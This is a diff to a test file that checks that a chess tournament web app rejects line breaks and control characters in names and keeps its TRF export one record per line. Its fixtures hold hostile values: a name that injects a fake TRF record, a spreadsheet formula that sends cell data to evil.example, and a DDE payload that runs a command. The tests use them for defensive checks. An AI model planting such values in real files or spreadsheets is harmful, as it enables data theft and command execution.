@@ -5,6 +5,8 @@ would run. Every test here failed before the fix it holds.
   under a memory limit (``RLIMIT_AS``) is refused, 422 ``C.04 Annex 2`` naming the line, and the server
   lives on; ``teamswiss import`` refuses it with exit status 3, under the same kind of limit.
 - The warnings of a sloppy file are capped, in the answer and on stderr.
+- Names and other one-line texts refuse a line break or control character, 422 naming the field; the TRF
+  export never writes one, whatever is stored.
 """
 
 from __future__ import annotations
@@ -25,8 +27,13 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from fastapi.testclient import TestClient
+from sqlmodel import Session, col, select
 
+from app.models import Player, Team, Tournament
+from app.services.text import breaking_character
 from app.services.trf.common import MAX_WARNINGS
+from tests.api.factory import make_club, make_player, make_team, make_tournament, name_committee, ok
 from tests.unit.trf.test_trf_bounds import PATHOLOGICAL, TEAM, Case
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -203,3 +210,182 @@ def test_teamswiss_import_prints_the_capped_warnings(engine: Any, tmp_path: Path
     err = capsys.readouterr().err.splitlines()
     assert len(err) == MAX_WARNINGS + 1
     assert err[-1] == f"teamswiss: {path}: ... and {5000 - MAX_WARNINGS:,} more warnings"
+
+
+# --- row 3: names are one line --------------------------------------------------------------------------------
+
+INJECTION = "G\n330 -+   1   1   4"
+BREAKING = [INJECTION, "A\rB", "A\r\nB", "tab\there", "esc\x1b[2J", "del\x7f", "nel\x85", "ls\u2028x", "ps\u2029x",
+            "vt\x0bx", "ff\x0cx", "\x1f"]
+
+
+@pytest.fixture()
+def admin(client: TestClient, engine: Any) -> dict[str, str]:
+    from tests.api.conftest import login, make_user
+
+    make_user(engine, "admin", admin=True)
+    return login(client, "admin")  # a password login: an API token may not make another
+
+
+def _world(client: TestClient, admin: dict[str, str]) -> dict[str, Any]:
+    t = make_tournament(client, admin)
+    club = make_club(client, admin, "Club")
+    player = make_player(client, admin, club["id"], "Reserve")
+    team = make_team(client, admin, t["id"], club["id"], "Team")
+    user = ok(client.post("/users", json={"username": "someone", "password": "password123"}, headers=admin), 201)
+    return {"t": t, "club": club, "player": player, "team": team, "user": user}
+
+
+def _requests(w: dict[str, Any]) -> list[tuple[str, str, str, Any, str]]:
+    """(method, path, field, body with ``{}`` where the text goes, what the 422 names)."""
+    tid, cid, pid, team, uid = w["t"]["id"], w["club"]["id"], w["player"]["id"], w["team"]["id"], w["user"]["id"]
+    out: list[tuple[str, str, str, Any, str]] = []
+    for f in ("last_name", "first_name", "title", "federation", "email", "phone"):
+        out.append(("PATCH", f"/players/{pid}", f, {f: "{}"}, f))
+        out.append(("POST", "/players", f, {"club_id": cid, "last_name": "X", f: "{}"}, f))
+    for f in ("name", "short_name", "federation", "city"):
+        out.append(("PATCH", f"/clubs/{cid}", f, {f: "{}"}, f))
+        out.append(("POST", "/clubs", f, {"name": "X", f: "{}"}, f))
+    for f in ("name", "city", "venue", "federation", "chief_arbiter"):
+        out.append(("PATCH", f"/tournaments/{tid}", f, {f: "{}"}, f))
+        out.append(("POST", "/tournaments", f, {"name": "X", f: "{}"}, f))
+    out.append(("PATCH", f"/tournaments/{tid}", "deputy_arbiters", {"deputy_arbiters": ["ok", "{}"]},
+                "deputy_arbiters"))
+    out.append(("PATCH", f"/tournaments/{tid}", "rules.time_control", {"rules": {"time_control": "{}"}}, "rules"))
+    for f in ("name", "nickname"):
+        out.append(("PATCH", f"/tournaments/{tid}/teams/{team}", f, {f: "{}"}, f))
+        out.append(("POST", f"/tournaments/{tid}/teams", f, {"club_id": cid, "name": "X", f: "{}"}, f))
+    out.append(("POST", f"/tournaments/{tid}/teams/{team}/payments", "reference",
+                {"amount": "1.00", "paid_on": "2026-11-01", "reference": "{}"}, "reference"))
+    for f in ("full_name", "email", "phone"):
+        out.append(("PATCH", f"/users/{uid}", f, {f: "{}"}, f))
+    for f in ("username", "full_name"):
+        out.append(("POST", "/users", f, {"username": "new-user", "password": "password123", f: "{}"}, f))
+    out.append(("POST", "/auth/api-tokens", "name", {"name": "{}"}, "name"))
+    out.append(("PUT", f"/tournaments/{tid}/committee", "members.name",
+                {"members": [{"name": "{}", "kind": "regular"}]}, "name"))
+    return out
+
+
+def _fill(body: Any, text: str) -> Any:
+    if isinstance(body, dict):
+        return {k: _fill(v, text) for k, v in body.items()}
+    if isinstance(body, list):
+        return [_fill(v, text) for v in body]
+    return text if body == "{}" else body
+
+
+def test_the_red_team_rename_is_refused_naming_the_field(client: TestClient, admin: dict[str, str]) -> None:
+    w = _world(client, admin)
+    before = ok(client.get(f"/players/{w['player']['id']}", headers=admin))
+    r = client.patch(f"/players/{w['player']['id']}", json={"last_name": INJECTION}, headers=admin)
+    assert r.status_code == 422 and r.headers["content-type"] == "application/problem+json"
+    body = r.json()
+    assert body["detail"].startswith("body.last_name: ") and "U+000A line feed" in body["detail"]
+    assert body["errors"][0]["loc"] == ["body", "last_name"]
+    assert ok(client.get(f"/players/{w['player']['id']}", headers=admin)) == before
+
+
+def test_every_one_line_field_refuses_every_breaking_character(client: TestClient, admin: dict[str, str]) -> None:
+    w = _world(client, admin)
+    for method, path, field, body, named in _requests(w):
+        for text in BREAKING:
+            # a field of 3 or 5 characters gets the character between two letters
+            value = f"A{breaking_character(text)}B" if field in ("title", "federation", "nickname") else text
+            r = client.request(method, path, json=_fill(body, value), headers=admin)
+            assert r.status_code == 422, (method, path, field, repr(value), r.text)
+            assert named in r.json()["detail"], (method, path, field, r.json()["detail"])
+        # the same request with one line is valid (it was refused for the character, not its form; the
+        # committee's rules may still refuse one member, 409)
+        if method in ("PATCH", "PUT"):
+            good = "ABC" if field in ("federation", "title", "nickname") else "O'Brien; \"=1+1\", @x"
+            r = client.request(method, path, json=_fill(body, good), headers=admin)
+            assert r.status_code in (200, 409), (method, path, field, r.text)
+
+
+def test_the_trf_export_never_writes_a_stored_line_break(client: TestClient, admin: dict[str, str],
+                                                         engine: Any) -> None:
+    """Data stored before the check (or by another way in) is written on one line, in its columns."""
+    tid, _ = _played(client, admin, teams=4, rounds=1)
+    before = {fmt: [x[:3] for x in _export(client, tid, admin, fmt).split("\n")] for fmt in ("trf2026", "trf16")}
+    with Session(engine) as s:
+        p = s.exec(select(Player).order_by(col(Player.id))).first()
+        assert p is not None
+        p.last_name = INJECTION
+        s.add(p)
+        team = s.exec(select(Team).where(Team.tournament_id == tid).order_by(col(Team.id))).first()
+        assert team is not None
+        team.name = "T\n310   9 Fake\u2028x"
+        s.add(team)
+        t = s.get(Tournament, tid)
+        assert t is not None
+        t.name, t.chief_arbiter, t.deputy_arbiters = "Open\r\n142 2147483647", "Chief\n112 Fake", ["D\x85x", "E\n112 y"]
+        s.add(t)
+        s.commit()
+    for fmt in ("trf2026", "trf16"):
+        text = _export(client, tid, admin, fmt)
+        assert all(line.isprintable() for line in text.splitlines()), fmt
+        assert [x[:3] for x in text.split("\n")] == before[fmt], "the same records, one a line"
+        assert "G 330 -+   1   1   4" in text, "the name, on its record's line"
+
+
+# --- tournaments to export -----------------------------------------------------------------------------------
+
+TEAM_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+SUM(1,2)", "@SUM(1+1)*cmd|' /C calc'!A0",
+              "-2+3", "Quote \"double\" 'single'; semi, comma", "T" * 100, "Ρήγας ΟΑΧ 🏆"]
+CLUB_NAMES = ["=1+1", "+club", "@club", "-club", "club; \"quoted\", comma", "C" * 200, "### club"]
+PLAYER_NAMES = [("330 -+   1   1   4", "=cmd"), ("001    1 m", "+1"), ("O'Brien, Jr", "@x"), ("-1", "-2"),
+                ("L" * 100, "F" * 100), ("\"Quoted\"", "semi;colon"), ("### comment", "Zoë"), ("Ρήγας", "Κώστας")]
+
+
+def _played(client: TestClient, admin: dict[str, str], teams: int = 5, rounds: int = 3,
+            hostile: bool = False) -> tuple[int, list[dict[str, Any]]]:
+    """A tournament of ``teams`` teams (hostile names if asked), ``rounds`` rounds paired, played (mixed results,
+    a whole match forfeited in the last round) and completed. The forfeit comes last: the team is expelled
+    (R-7.4), and a file cannot say that the rounds after it were not absences (C.07 counts them otherwise)."""
+    body: dict[str, Any] = {
+        "name": "Quote \"Open\"; =1+1, @home" if hostile else "Open", "preset": "k12-2025",
+        "start_date": "2026-12-10", "city": "+Athens" if hostile else "", "chief_arbiter": "@Chief",
+        "deputy_arbiters": ["-Deputy", "=D2"],
+        "move_schedule": True,  # the C.07 text follows the start date, which the file says (042)
+        "rules": {"entry_deadline": None, "roster_deadline": None, "substitution_deadline": None, "round_starts": []},
+    }
+    t = ok(client.post("/tournaments", json=body, headers=admin), 201)
+    tid = t["id"]
+    out = []
+    for i in range(teams):
+        club = make_club(client, admin, CLUB_NAMES[i % len(CLUB_NAMES)] + (f" {i}" if i >= len(CLUB_NAMES) else "")
+                         if hostile else f"Club {i}")
+        team = make_team(client, admin, tid, club["id"], TEAM_NAMES[i] if hostile else f"Team {i}")
+        pids = []
+        for k in range(5):
+            last, first = PLAYER_NAMES[(i * 5 + k) % len(PLAYER_NAMES)] if hostile else (f"P{i}-{k}", "A")
+            p = make_player(client, admin, club["id"], last, first_name=first, rating=2000 - 40 * i - 10 * k,
+                            sex="w" if k == 4 else "m")
+            pids.append(p["id"])
+        ok(client.put(f"/tournaments/{tid}/teams/{team['id']}/roster", json={"player_ids": pids}, headers=admin))
+        out.append({**team, "player_ids": pids})
+    ok(client.post(f"/tournaments/{tid}/ranking/lock", headers=admin))
+    name_committee(client, admin, tid)
+    codes = ["1-0", "0-1", "1/2-1/2", "1-0", "0-1", "1/2-1/2", "1-0"]
+    for n in range(1, rounds + 1):
+        ok(client.post(f"/tournaments/{tid}/rounds/{n}/pair", headers=admin))
+        rnd = ok(client.post(f"/tournaments/{tid}/rounds/{n}/publish", headers=admin))
+        results: list[dict[str, Any]] = []
+        for k, m in enumerate(x for x in rnd["matches"] if not x["pab"]):
+            if n == rounds and k == 0:
+                results.append({"table": m["table"], "forfeit": "second"})
+                continue
+            for b in m["boards"]:
+                result = b["result"] or codes[(n + k + b["board"]) % len(codes)]
+                if b["result"] is None:
+                    results.append({"table": m["table"], "board": b["board"], "result": result})
+        ok(client.post(f"/tournaments/{tid}/rounds/{n}/results", json={"results": results}, headers=admin))
+        ok(client.post(f"/tournaments/{tid}/rounds/{n}/complete", headers=admin))
+    return tid, out
+
+
+def _export(client: TestClient, tid: int, auth: dict[str, str], fmt: str) -> str:
+    r = client.get(f"/tournaments/{tid}/export/trf", params={"format": fmt}, headers=auth)
+    assert r.status_code == 200, r.text
+    return r.content.decode("utf-8")
